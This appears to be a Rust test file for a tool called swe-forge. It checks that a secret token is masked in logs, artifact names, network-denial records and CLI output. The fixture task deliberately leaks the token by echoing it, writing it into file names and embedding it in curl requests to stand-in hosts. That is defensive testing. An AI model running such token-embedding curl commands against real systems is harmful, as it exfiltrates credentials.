//! Secrets: wherever a task writes one, nothing that swe-forge keeps or shows has it.

use std::path::Path;

use forge_api::report::TaskReport;

use crate::support::{Home, Script};

const SECRET: &str = "Correct-Horse-77";

/// Whether `text` has the secret, in any case.
fn tells(text: &[u8]) -> bool {
    let text = String::from_utf8_lossy(text).to_ascii_lowercase();
    text.contains(&SECRET.to_ascii_lowercase())
}

/// Every file below `folder`, by name or contents, that tells the secret.
fn telling(folder: &Path, found: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.to_string_lossy().into_owned();
        let kind = std::fs::symlink_metadata(&path).unwrap().file_type();
        if tells(name.as_bytes()) {
            found.push(name.clone());
        }
        if kind.is_dir() {
            telling(&path, found);
        } else if kind.is_file() && tells(&std::fs::read(&path).unwrap()) {
            found.push(name);
        }
    }
}

/// Runs a task that does its worst with the secret; `end` is how its verification ends.
fn run(home: &Home, end: &str) -> (i32, TaskReport) {
    home.find_registries();
    home.configure_token(SECRET);
    let verify =
        format!("echo verify $TOKEN; printf '<testcase name=\"%s\"/>\\n' \"$TOKEN\"; {end}");
    let script = Script {
        setup: Some("echo setup $TOKEN; mkdir -p output; echo 1 > output/setup-$TOKEN"),
        solve: "echo solve $TOKEN; \
                curl -s https://$TOKEN.example.org/; curl -s https://x-$TOKEN.example.net:8443/; \
                mkdir -p output/$TOKEN; echo 2 > output/$TOKEN/junit-$TOKEN.xml; \
                echo 3 > output/junit-$TOKEN; ln -s nowhere output/link-$TOKEN; true",
        verify: &verify,
        config: "network: {setup: package_only, solve: limited_web, allow: [api.example.org]}\n\
                 env:\n  TOKEN: {secret: token, phases: [setup, solve, verify]}\n",
    };
    let folder = home.task("teller", script);
    let words = [
        "-vv",
        "run",
        folder.to_str().unwrap(),
        "--agent",
        "command",
        "--format",
        "json",
    ];
    let output = home.output(&words);
    assert!(!tells(&output.stdout) && !tells(&output.stderr));
    let report: forge_api::report::Report = serde_json::from_slice(&output.stdout).unwrap();
    (
        output.status.code().unwrap(),
        report.tasks.into_iter().next().unwrap(),
    )
}

#[test]
fn a_secret_in_output_names_and_hosts_is_in_nothing_that_is_kept_or_shown() {
    let home = Home::new();
    let (code, task) = run(&home, "false");
    assert_eq!(code, 1, "{task:#?}");
    for phase in ["setup", "solve", "verify"] {
        let log = String::from_utf8(home.log(&task, phase)).unwrap();
        assert!(log.contains(&format!("{phase} ***\n")), "{log}");
    }
    let denied: Vec<&str> = task
        .network
        .denied
        .iter()
        .map(|each| each.host.as_str())
        .collect();
    assert_eq!(denied, ["***.example.org", "x-***.example.net"]);
    let names: Vec<&str> = task
        .artifacts
        .iter()
        .map(|each| each.path.as_str())
        .collect();
    for name in [
        "output/setup-***",
        "output/***/junit-***.xml",
        "output/junit-***",
    ] {
        assert!(names.contains(&name), "{names:?}");
    }
    assert!(
        task.notes.iter().any(|note| note.contains("link-***")),
        "{:?}",
        task.notes
    );
    let mut found = Vec::new();
    for folder in ["home", "swe-forge-out"] {
        telling(&home.path(folder), &mut found);
    }
    assert_eq!(found, [""; 0]);
    for words in [
        &["show", "teller"][..],
        &["show", "teller", "--format", "json"],
        &["logs", "teller"],
        &["artifacts", "teller"],
        &["ps", "--all"],
    ] {
        let output = home.output(words);
        assert!(output.status.success(), "{words:?}");
        assert!(
            !tells(&output.stdout) && !tells(&output.stderr),
            "{words:?}"
        );
    }
}

#[test]
fn a_value_too_short_to_be_masked_is_refused_with_the_reason() {
    let home = Home::new();
    home.configure_token("ab\n");
    let script = Script {
        config: "env:\n  TOKEN: {secret: token, phases: [solve]}\n",
        ..Script::default()
    };
    let (code, task) = home.run(&home.task("short", script));
    assert_eq!(
        (code, task.reason),
        (3, Some(forge_core::Reason::SecretUnavailable))
    );
    assert!(
        task.message.contains("shorter than 4 bytes"),
        "{}",
        task.message
    );
}
